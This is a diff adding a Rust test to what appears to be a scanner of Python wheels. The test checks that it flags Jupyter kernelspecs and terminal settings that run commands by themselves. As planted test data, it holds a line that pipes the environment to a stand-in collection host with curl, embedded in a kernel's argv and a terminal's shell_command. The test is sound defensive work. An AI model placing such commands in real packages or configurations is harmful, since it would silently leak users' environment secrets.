@@ -3380,6 +3380,84 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
     }
 }
 
+/// Jupyter and the shells run some files a wheel writes into the
+/// environment's folder by themselves: a kernelspec's `argv` whenever that
+/// kernel starts (the `python3` one, ipykernel's, for every Python
+/// notebook), Jupyter's settings (a terminal's `shell_command`), Python
+/// configuration in `etc/jupyter`, and fish's `vendor_conf.d` scripts. A
+/// kernelspec or a Jupyter setting that ran `env | curl …` was allowed
+/// until session 32: JSON was data, which the veto never read. Now the
+/// veto reads them, and the same files saying nothing harmful are still
+/// allowed. Replacing the `python3` kernel (but in ipykernel's own wheel),
+/// Python configuration for Jupyter and a fish start-up script keep a
+/// wheel from being cleared whatever they say.
+#[test]
+fn files_jupyter_or_a_shell_run_by_themselves_are_judged() {
+    let c = Canary::new();
+    let veto_off = veto_off_config(&c);
+    let steal = "env | curl -s --data-binary @- https://collect.example.net/c";
+    let kernel = format!(
+        r#"{{"argv": ["sh", "-c", "{steal}; exec python -m ipykernel_launcher -f {{connection_file}}"], "display_name": "Python 3", "language": "python"}}"#
+    );
+    let terminal = format!(
+        r#"{{"ServerApp": {{"terminado_settings": {{"shell_command": ["sh", "-c", "{steal}; exec bash -l"]}}}}}}"#
+    );
+    let plain_kernel: &[u8] = br#"{"argv": ["python", "-m", "is_number", "-f", "{connection_file}"], "display_name": "is-number", "language": "python"}"#;
+    let plain_config: &[u8] = br#"{"ServerApp": {"jpserver_extensions": {"is_number": true}}}"#;
+    let data = "is_number-7.0.0.data/data";
+    let kernel_at = format!("{data}/share/jupyter/kernels/is-number/kernel.json");
+    let config_at = format!("{data}/etc/jupyter/jupyter_server_config.d/is_number.json");
+    for (member, harmful, plain) in [
+        (&kernel_at, kernel.as_bytes(), plain_kernel),
+        (&config_at, terminal.as_bytes(), plain_config),
+    ] {
+        let p = is_number_wheel(&c, "planted.whl", &[(member, harmful)]);
+        let (o, r) = scan_path_json(&c, &p);
+        assert_vetoed_at(&o, &r, &format!("{member}:"));
+        // Nothing but the veto reads it.
+        let (o, r) = scan_path_json_under(&c, &veto_off, &p);
+        assert_reason(&o, &r, (0, "precheck-harmless"));
+        let p = is_number_wheel(&c, "plain.whl", &[(member, plain)]);
+        let (o, r) = scan_path_json(&c, &p);
+        assert_reason(&o, &r, (0, "precheck-harmless"));
+    }
+    let python3 = format!("{data}/share/jupyter/kernels/python3/kernel.json");
+    let config_py = format!("{data}/etc/jupyter/jupyter_server_config.py");
+    let fish = format!("{data}/share/fish/vendor_conf.d/is_number.fish");
+    for (member, text, says) in [
+        (
+            &python3,
+            plain_kernel,
+            "a file of another distribution, ipykernel (the python3 kernel",
+        ),
+        (
+            &config_py,
+            &b"c.ServerApp.open_browser = False
+"[..],
+            "run by themselves",
+        ),
+        (
+            &fish,
+            &b"set -gx IS_NUMBER_HOME $HOME/.is-number
+"[..],
+            "run by themselves",
+        ),
+    ] {
+        let p = is_number_wheel(&c, "planted.whl", &[(member, text)]);
+        let (o, r) = scan_path_json_under(&c, &veto_off, &p);
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        assert!(note.contains(member) && note.contains(says), "{note}");
+    }
+    let own = is_number_wheel(
+        &c,
+        "ipykernel-7.0.0-py3-none-any.whl",
+        &[(&python3, plain_kernel)],
+    );
+    let (o, r) = scan_path_json_under(&c, &veto_off, &own);
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+}
+
 /// A wheel's `NAME.data/data/share/` files go to the environment's
 /// `share/` folder: data for other programs, which installing, importing
 /// or building the package never runs. A harmful score earned only by
